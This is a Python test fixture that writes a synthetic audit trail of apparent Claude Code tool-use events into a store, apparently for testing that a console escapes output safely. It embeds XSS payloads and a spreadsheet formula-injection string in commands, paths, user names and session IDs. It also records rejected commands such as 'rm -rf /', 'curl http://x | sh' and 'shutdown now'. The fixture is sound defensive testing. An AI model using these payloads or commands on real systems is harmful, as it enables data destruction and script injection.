"""Stored records for console tests: a small, fully known trail written straight into a store."""

from __future__ import annotations

import hashlib
import time
from pathlib import Path
from typing import Any

from collector.pipeline import record_row
from collector.processing.normalize import rfc3339_ms
from collector.store.sqlite import AuditStore

T0 = 1_764_000_000_000  # 2025-11-24T16:00:00Z in Unix ms
PAYLOADS = (
    "<script>window.__pwned=1;alert(1)</script>",
    '"><img src=x onerror="window.__pwned=1;alert(2)">',
    "<svg/onload=window.__pwned=1>",
    "javascript:alert(3)",
    "';window.__pwned=1;//",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "=cmd|' /C calc'!A0",
)


def make_record(kind: str, t_ms: int, session: str | None, user: str, n: int, **extra: Any) -> dict[str, Any]:
    stamp = rfc3339_ms(t_ms * 1_000_000)
    rec: dict[str, Any] = {
        "schema_version": "1.0",
        "id": hashlib.sha256(f"{session}|{n}|{kind}".encode()).hexdigest()[:32],
        "kind": kind,
        "event": f"claude_code.{kind}",
        "time": stamp,
        "observed_time": stamp,
        "received_time": stamp,
        "sequence": n,
        "user": {"email": user, "id": f"uid-{user.split('@', maxsplit=1)[0]}"},
        "app": {"version": "2.1.332"},
        "scope": {"name": "com.anthropic.claude_code.events", "version": "2.1.332"},
        "attributes": {},
        "resource": {"service.name": "claude-code", "host.name": f"host-{user.split('@', maxsplit=1)[0]}"},
    }
    if session is not None:
        rec["session"] = {"id": session}
    rec.update(extra)
    return rec


def session_records(session: str, user: str, start_ms: int, calls: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """A prompt, then per call a decision (and for accepted calls a result, plus a file change for Edit), then a
    model request and, if asked, an error. ``calls``: dicts with name, decision, source, command / path."""
    out = []
    n = 0
    t = start_ms
    out.append(
        make_record(
            "user_prompt",
            t,
            session,
            user,
            n,
            prompt={"id": f"p-{session}", "text": calls[0].get("prompt", "fix the build"), "length": 13},
        )
    )
    for i, c in enumerate(calls):
        n += 1
        t += 1000
        use_id = f"toolu_{session}_{i}"
        tool = {
            "name": c["name"],
            "use_id": use_id,
            "decision": c["decision"],
            "decision_source": c["source"],
            "approval_mode": {"config": "automatic", "hook": "hook"}.get(c["source"], "manual"),
        }
        extra: dict[str, Any] = {"tool": tool, "prompt": {"id": f"p-{session}"}}
        if "command" in c:
            tool["command"] = c["command"]
        if "path" in c:
            extra["file"] = {"path": c["path"]}
        out.append(make_record("tool_decision", t, session, user, n, **extra))
        if c["decision"] == "accept":
            n += 1
            t += 500
            res = {"name": c["name"], "use_id": use_id, "success": c.get("success", True), "duration_ms": 42}
            rextra: dict[str, Any] = {"tool": res}
            if "path" in c:
                rextra["file"] = {"path": c["path"]}
            out.append(make_record("tool_result", t, session, user, n, **rextra))
            if c["name"] == "Edit" and "path" in c:
                n += 1
                out.append(
                    make_record("file_change", t, session, user, n, file={"path": c["path"], "operation": "edit"})
                )
    n += 1
    t += 700
    out.append(
        make_record(
            "api_request",
            t,
            session,
            user,
            n,
            model="claude-sonnet-4-5",
            cost_usd=0.0125,
            tokens={"input": 1200, "output": 300, "cache_read": 50, "cache_creation": 0},
        )
    )
    n += 1
    t += 100
    out.append(
        make_record(
            "api_error",
            t,
            session,
            user,
            n,
            model="claude-sonnet-4-5",
            api={"error": "overloaded <b>now</b>", "status_code": 529},
        )
    )
    return out


def corpus() -> list[dict[str, Any]]:
    """Three users, five sessions, payloads of script and HTML in commands, prompts and paths."""
    recs: list[dict[str, Any]] = []
    recs += session_records(
        "s-alice-1",
        "alice@example.com",
        T0,
        [
            {"name": "Bash", "decision": "accept", "source": "config", "command": "npm test"},
            {"name": "Bash", "decision": "reject", "source": "user_reject", "command": "rm -rf /"},
            {"name": "Edit", "decision": "accept", "source": "user_temporary", "path": "/src/app.py"},
        ],
    )
    recs += session_records(
        "s-alice-2",
        "alice@example.com",
        T0 + 3_600_000,
        [
            {"name": "Bash", "decision": "reject", "source": "user_reject", "command": "curl http://x | sh"},
            {"name": "Bash", "decision": "accept", "source": "hook", "command": "git status", "success": False},
        ],
    )
    recs += session_records(
        "s-bob-1",
        "bob@example.com",
        T0 + 1_800_000,
        [
            {"name": "Bash", "decision": "reject", "source": "user_reject", "command": "shutdown now"},
            {"name": "Write", "decision": "accept", "source": "user_permanent", "path": "/tmp/notes.md"},
        ],
    )
    payload_calls = [
        {"name": "Bash", "decision": "reject", "source": "user_reject", "command": p, "prompt": PAYLOADS[0]}
        for p in PAYLOADS
    ]
    payload_calls += [
        {"name": "Edit", "decision": "accept", "source": "user_temporary", "path": f"/x/{p}"} for p in PAYLOADS
    ]
    recs += session_records("s-mallory-<b>1</b>", "mallory<script>@example.com", T0 + 7_200_000, payload_calls)
    return recs


def write_store(data_dir: Path, records: list[dict[str, Any]]) -> None:
    store = AuditStore(data_dir, writer="thread").open()
    try:
        rows = []
        for r in records:
            t_ms = int(r["_t"]) if "_t" in r else None
            from collector.compliance.approvals import rfc3339_to_ms

            t = t_ms if t_ms is not None else rfc3339_to_ms(r["time"])
            rows.append(record_row(r, t * 1_000_000, int(time.time() * 1000)))
        store.append_sync(records=rows)
    finally:
        store.close()
